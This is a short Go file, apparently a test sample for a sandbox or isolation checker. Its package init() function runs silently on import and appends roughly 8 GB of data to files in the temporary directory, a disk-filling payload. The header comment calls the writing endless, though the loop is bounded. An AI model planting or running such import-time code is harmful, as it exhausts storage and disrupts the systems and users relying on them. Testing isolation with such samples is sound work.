// unsolved, tampered (only isolated): writes to its temporary folder without an end
package sizes

import (
	"fmt"
	"os"
)

func init() {
	piece := make([]byte, 8<<20)
	for number := range 1000 {
		file, err := os.OpenFile(fmt.Sprintf("%s/%d", os.TempDir(), number%10), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o666)
		if err == nil {
			file.Write(piece)
			file.Close()
		}
	}
}
